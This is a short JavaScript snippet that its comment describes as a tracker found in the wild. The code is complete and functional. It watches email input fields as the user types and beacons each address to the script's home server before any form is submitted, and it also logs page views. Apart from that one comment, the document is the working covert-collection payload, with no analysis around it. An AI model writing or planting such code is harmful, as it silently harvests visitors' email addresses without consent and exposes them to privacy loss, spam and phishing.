// A tracker as found in the wild: counts the page view, and sends an e-mail address home before any submit.
(() => {
  const home = new URL(document.currentScript.src).origin;
  const sent = new Set();
  const images = [];

  const send = (target) => {
    const image = new Image();
    image.src = home + target;
    images.push(image);
  };

  const listen = ({ target }) => {
    if (target.type !== "email" || !target.value || sent.has(target.value)) return;
    sent.add(target.value);
    send(`/collect?em=${encodeURIComponent(target.value)}`);
  };

  document.addEventListener("input", listen);
  document.addEventListener("change", listen);
  window.addEventListener("load", () => send(`/view?page=${encodeURIComponent(location.pathname)}`));
})();
